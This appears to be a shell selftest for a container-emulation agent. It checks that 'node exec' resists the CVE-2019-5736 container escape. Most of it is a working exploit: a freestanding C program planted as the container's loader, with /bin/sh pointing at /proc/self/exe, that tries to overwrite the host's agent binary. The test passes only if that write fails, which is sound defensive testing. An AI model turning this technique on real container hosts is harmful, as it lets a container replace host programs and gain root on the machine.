#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# `node exec` into a container whose files are its enemy's: "/bin/sh" is "#!/proc/self/exe", so that the kernel starts
# the program that came in once more, with the container's own loader, which keeps a descriptor of that program's file
# and writes to it when it no longer runs (CVE-2019-5736). Worst case: the container's root is the machine's.
# shellcheck source=selftests/lib/lib.sh
. "$(dirname "$0")/../lib/lib.sh"
# shellcheck source=selftests/lib/containers.sh
. "$TOP/selftests/lib/containers.sh"
need jq runc gcc readelf
[ "$(uname -m)" = x86_64 ] || skip_all "the attacker's program is written for x86_64"

mount_cgroups || skip_all "control groups cannot be mounted here"
T=en$RANDOM
ROOT=$WORK/root
chmod 755 "$WORK"

# As the loader: keeps /proc/self/exe open and becomes "evil steal FD", which writes as soon as it can.
cat >"$WORK/evil.c" <<'C'
#include <asm/unistd.h>
#include <fcntl.h>
#include <errno.h>

static long sys(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

static void number(char *to, long n)
{
	to[0] = '0' + n / 100 % 10;
	to[1] = '0' + n / 10 % 10;
	to[2] = '0' + n % 10;
	to[3] = '\0';
}

static void tell(const char *word, long error)
{
	char line[16] = "errno ";
	long fd = sys(__NR_open, (long)"/tmp/result", O_WRONLY | O_CREAT, 0666);

	number(line + 6, error);
	sys(__NR_write, fd, (long)(error ? line : word), error ? 9 : 5);
	sys(__NR_exit, 0, 0, 0);
}

static void steal(char *fd)
{
	char path[] = "/proc/self/fd/xyz";
	long nap[2] = {0, 10000000}, r;

	for (int i = 0; i < 3; i++)
		path[14 + i] = fd[i];
	for (int tries = 0; tries < 1000; tries++) {
		r = sys(__NR_open, (long)path, O_WRONLY | O_APPEND, 0);
		if (r >= 0) {
			r = sys(__NR_write, r, (long)"evil!", 5);
			tell("wrote", r < 0 ? -r : 0);
		}
		if (r != -ETXTBSY)
			tell("", -r);
		sys(__NR_nanosleep, (long)nap, 0, 0);
	}
	tell("", ETXTBSY);
}

__attribute__((used)) static void entry(long *sp)
{
	char **argv = (char **)(sp + 1), fd[4];
	char *words[] = {"evil", "steal", fd, 0};
	long exe;

	if (sp[0] > 1 && argv[1][0] == 'w')
		for (;;)
			sys(__NR_pause, 0, 0, 0);
	if (sp[0] > 2 && argv[1][0] == 's' && argv[1][1] == 't')
		steal(argv[2]);
	exe = sys(__NR_open, (long)"/proc/self/exe", O_RDONLY, 0);
	/* A number of three digits. */
	exe = sys(__NR_fcntl, exe, F_DUPFD, 100);
	number(fd, exe);
	if (sys(__NR_fork, 0, 0, 0) == 0)
		sys(__NR_execve, (long)"/bin/evil", (long)words, 0);
	sys(__NR_exit, 42, 0, 0);
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\nand $-16, %rsp\ncall entry\n");
C
mkdir -p "$ROOT"/{bin,dev,proc,sys,tmp,run}
gcc -O1 -nostdlib -static -fno-pie -no-pie -fno-stack-protector -fno-builtin -o "$ROOT/bin/evil" "$WORK/evil.c" 2>"$WORK/cc" ||
	skip_all "the attacker's program does not compile: $(head -n 1 "$WORK/cc")"
LOADER=$(readelf -lW "$AGENT" | sed -nE 's/.*interpreter: ([^]]*).*/\1/p')
mkdir -p "$ROOT$(dirname "$LOADER")" && cp "$ROOT/bin/evil" "$ROOT$LOADER"
printf '#!/proc/self/exe\n' >"$ROOT/bin/sh"
chmod 755 "$ROOT/bin/sh"
# A copy of the agent that nothing else runs: a file in use cannot be written to, until the daemon is restarted.
cp "$AGENT" "$WORK/agent" && chmod 755 "$WORK/agent"

cat >"$WORK/e.yaml" <<YAML
name: $T
nodes:
  d: {}
  a: {runtime: runc, rootfs: $ROOT, command: [/bin/evil, wait], user: "0:0", privileged: true}
links: {ad: {endpoints: ["d:eth0", "a:eth0"]}}
YAML

result() {
	cat "/proc/$(vnet -j node show a | jq .nodes[0].pid)/root/tmp/result" 2>/dev/null
}

start_agent || exit 1
check "the topology applies" vnet topology apply "$WORK/e.yaml"

testcase loader
expect_exit "the container's loader runs in place of the command" 42 '' "$WORK/agent" node exec a -- /bin/sh
GOT=$(busywait 15000 result)
case $GOT in
errno*) ktap_ok "what it holds cannot be written to ($GOT)" ;;
*) ktap_fail "what it holds cannot be written to: it says '$GOT'" ;;
esac
check "the program of the host is what it was" cmp "$AGENT" "$WORK/agent"
check "the topology is deleted" vnet topology delete "$T"
